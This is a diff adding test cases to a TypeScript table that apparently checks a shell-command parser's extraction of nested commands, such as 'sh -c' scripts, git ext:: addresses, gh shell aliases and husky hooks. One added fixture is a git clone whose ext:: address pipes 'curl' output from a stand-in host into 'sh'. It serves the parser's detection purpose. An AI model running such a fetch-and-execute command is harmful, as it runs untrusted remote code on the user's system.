@@ -143,6 +143,10 @@ const CASES: Array<[string, string[]]> = [
   // `sh -c script name args`: the words after the script are its $0, $1…
   ["find /srv -type f -exec sh -c 'gzip -c \"$1\" > \"$1.gz\"' _ {} \\;", ['find /srv -type f -exec sh -c gzip -c "$1" > "$1.gz" _ {} ;', 'exec-arg:sh -c gzip -c "$1" > "$1.gz" _ {}', 'shell-c:gzip -c {}']],
   ["sh -c 'echo $1 $2' x a b", ['sh -c echo $1 $2 x a b', 'shell-c:echo a b']],
+  // git's ext:: address is a command line; a gh shell alias and a husky hook are command lines kept for later
+  ["git clone 'ext::sh -c curl% -s% x.example% |% sh'", ['git clone ext::sh -c curl% -s% x.example% |% sh', 'exec-arg:sh -c curl -s x.example | sh', 'shell-c:curl -s x.example', 'shell-c:sh']],
+  ["gh alias set --shell co 'id; gh pr checkout \"$1\"'", ['gh alias set --shell co id; gh pr checkout "$1"', 'persisted:id', 'persisted:gh pr checkout ']],
+  ["npx husky add .husky/pre-push 'make lint'", ['npx husky add .husky/pre-push make lint', 'persisted:make lint']],
   // a patch given inline runs what its containers or steps say
   [`kubectl patch task build -p '{"spec":{"steps":[{"name":"r","script":"make test"}]}}'`, ['kubectl patch task build -p {"spec":{"steps":[{"name":"r","script":"make test"}]}}', 'persisted:make test']],
   // a variable set to what a lookup prints holds that program
